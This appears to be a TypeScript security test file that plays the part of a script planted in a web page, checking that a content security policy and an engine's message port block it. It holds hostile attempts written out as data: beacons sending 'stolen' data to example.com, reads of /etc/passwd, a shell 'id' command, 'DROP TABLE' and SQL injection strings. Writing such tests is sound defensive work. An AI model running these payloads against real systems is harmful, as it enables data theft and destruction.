/** What a script that came into the page would try. Turned into source text, so neither may use anything from outside of itself. */

/** Files, other origins, other programs: how each attempt ended, and the directives that the policy named in stopping them. */
export async function runPlantedScript() {
  const stopped = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    stopped.add(effectiveDirective);
  });
  const foreign = 'https://example.com/';
  const ending = (work: Promise<unknown>): Promise<unknown> => work.catch(() => 'stopped');
  const add = (name: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };

  const script = add('script', {});
  script.textContent = 'window.planted = true';
  script.replaceWith(script.cloneNode(true));
  add('img', { src: `${foreign}?stolen` });
  for (const src of ['file:///etc/passwd', foreign, 'data:text/html,x']) add('iframe', { src });
  (add('form', { action: foreign, method: 'post' }) as HTMLFormElement).submit();
  const tried = {
    inline: (window as { planted?: boolean }).planted === true,
    file: await ending(fetch('file:///etc/passwd')),
    outside: await ending(fetch('/%2e%2e/%2e%2e/package.json').then(({ status }) => status)),
    foreign: await ending(fetch(foreign)),
    beacon: await ending(
      fetch(foreign, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'stolen' }),
    ),
    socket: await new Promise((resolve) => {
      const socket = new WebSocket('wss://example.com/');
      socket.onopen = () => {
        resolve('open');
      };
      socket.onerror = () => {
        resolve('stopped');
      };
    }),
    worker: await new Promise((resolve) => {
      const source = URL.createObjectURL(new Blob(['postMessage(1)']));
      const worker = new Worker(source);
      worker.onmessage = () => {
        resolve('ran');
      };
      worker.onerror = () => {
        resolve('stopped');
      };
    }),
    script: await new Promise((resolve) => {
      const loaded = add('script', { src: `${foreign}x.js` }) as HTMLScriptElement;
      loaded.onload = () => {
        resolve('ran');
      };
      loaded.onerror = () => {
        resolve('stopped');
      };
    }),
  };
  return { tried, stopped: [...stopped] };
}

/** Statements, files and commands, asked of the engine over a port of its own: the status of each answer. */
export async function askLikePlantedScript(): Promise<number[]> {
  const port = await new Promise<MessagePort>((resolve) => {
    window.addEventListener('message', ({ data, ports }) => {
      if (data === 'satchel:port' && ports[0]) resolve(ports[0]);
    });
    (window as unknown as { satchel: { connect(): void } }).satchel.connect();
  });
  const attempts: [string, unknown][] = [
    ['/store/exec', { sql: 'DROP TABLE owners' }],
    ['/files/read', { path: '/etc/passwd' }],
    ['/shell/run', { command: 'id' }],
    ['/records/list', { table: 'owners; DROP TABLE owners' }],
    ['/records/list', { table: 'sqlite_master' }],
    ['/records/list', { table: 'owners', sort: [{ column: '(SELECT sql FROM sqlite_master)' }] }],
  ];
  const statuses: number[] = [];
  port.start();
  for (const [i, [u, json]] of attempts.entries()) {
    const answer = new Promise<string>((resolve) => {
      port.onmessage = ({ data }: MessageEvent<unknown>) => {
        resolve(String(data));
      };
    });
    port.postMessage(JSON.stringify({ i, p: { u, m: 'POST', b: { json } } }));
    const { p } = JSON.parse(await answer) as { p: { s?: number } };
    statuses.push(p.s ?? 200);
  }
  port.close();
  return statuses;
}
